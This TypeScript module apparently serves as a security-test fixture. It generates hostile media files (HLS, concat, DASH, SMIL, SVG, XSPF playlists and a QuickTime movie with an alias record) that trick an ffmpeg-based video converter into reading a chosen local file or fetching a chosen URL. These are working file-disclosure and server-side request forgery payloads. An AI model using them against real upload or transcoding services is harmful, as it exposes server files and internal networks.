/** Addresses that a hostile file would have the server read. */
export type Bait = {
  /** of a file on this machine */
  path: string
  /** of a web server */
  url: string
}

/**
 * Playlists and descriptions in the guise of videos: each has ffmpeg, left to itself, read something else.
 * https://docs.google.com/presentation/d/1yqWy_aE3dQNXAhW8kxMxRqtP7qMHaIfMzUDpEqFneos (attacks on video converters)
 */
export const playlists = ({ path, url }: Bait): [name: string, text: string][] => {
  const hls = (...lines: string[]) =>
    `#EXTM3U\n#EXT-X-TARGETDURATION:9\n${lines.join('\n')}\n#EXT-X-ENDLIST\n`
  return [
    ['HLS of a file', hls('#EXTINF:9,', path)],
    ['HLS of a file by its address', hls('#EXTINF:9,', `file://${path}`)],
    ['HLS of a web page', hls('#EXTINF:9,', url)],
    ['HLS of a web page with a file behind it', hls('#EXTINF:9,', `concat:${url}|file://${path}`)],
    ['HLS with a key from the web', hls(`#EXT-X-KEY:METHOD=AES-128,URI="${url}"`, '#EXTINF:9,', path)],
    ['HLS that begins with a map', hls(`#EXT-X-MAP:URI="${path}"`, '#EXTINF:9,', url)],
    ['a list of lists', `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${url}\n`],
    ['a concat script', `ffconcat version 1.0\nfile '${path}'\n`],
    ['a concat script of a web page', `ffconcat version 1.0\nfile '${url}'\n`],
    [
      'DASH',
      `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet
      mimeType="video/mp4"><Representation id="1"><BaseURL>${url}</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    ],
    [
      'SDP',
      `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
    ],
    ['SMIL', `<smil><body><video src="${url}"/></body></smil>`],
    ['SVG', `<svg xmlns="http://www.w3.org/2000/svg"><image href="${path}"/><image href="${url}"/></svg>`],
    ['a RealMedia redirect', `rtsp://127.0.0.1/${path}\n`],
    [
      'XSPF',
      `<playlist version="1"><trackList><track><location>${url}</location></track></trackList></playlist>`,
    ],
  ]
}

const box = (type: string, ...parts: Uint8Array[]): Buffer => {
  const body = Buffer.concat(parts)
  const head = Buffer.alloc(8)
  head.writeUInt32BE(body.length + 8)
  head.write(type, 4, 'latin1')
  return Buffer.concat([head, body])
}

/** A Macintosh alias record, as QuickTime names another file by: https://en.wikipedia.org/wiki/Alias_(Mac_OS) */
const alias = (path: string): Buffer => {
  const text = (value: string, bytes: number) => {
    const field = Buffer.alloc(bytes)
    field.writeUInt8(value.length)
    field.write(value, 1, 'latin1')
    return field
  }
  const name = path.slice(path.lastIndexOf('/') + 1)
  const where = Buffer.from(path, 'latin1')
  const item = Buffer.alloc(4)
  item.writeUInt16BE(2)
  item.writeUInt16BE(where.length, 2)
  const padding = Buffer.alloc(where.length % 2)
  const end = Buffer.from([0xff, 0xff, 0, 0])
  const levels = Buffer.from([0, 1, 0, 1])
  const fields = [
    Buffer.alloc(10),
    text('disk', 28),
    Buffer.alloc(12),
    text(name.slice(0, 60), 64),
    Buffer.alloc(16),
  ]
  return Buffer.concat([Buffer.alloc(4), ...fields, levels, Buffer.alloc(16), item, where, padding, end])
}

const PARENTS = new Set(['moov', 'trak', 'mdia', 'minf', 'dinf'])

/**
 * A QuickTime movie whose pictures are said to lie in another file.
 * @param movie one whose index comes behind its pictures
 */
export const movieOfAnother = (movie: Buffer, path: string): Buffer => {
  const rewrite = (bytes: Buffer): Buffer => {
    const parts: Buffer[] = []
    for (let at = 0; at + 8 <= bytes.length; ) {
      const size = bytes.readUInt32BE(at)
      const type = bytes.toString('latin1', at + 4, at + 8)
      const body = bytes.subarray(at + 8, at + size)
      if (size < 8) throw new Error('not a movie of plain boxes')
      if (type === 'dref')
        parts.push(box('dref', Buffer.from([0, 0, 0, 0, 0, 0, 0, 1]), box('alis', alias(path))))
      else parts.push(PARENTS.has(type) ? box(type, rewrite(body)) : bytes.subarray(at, at + size))
      at += size
    }
    return Buffer.concat(parts)
  }
  return rewrite(movie)
}
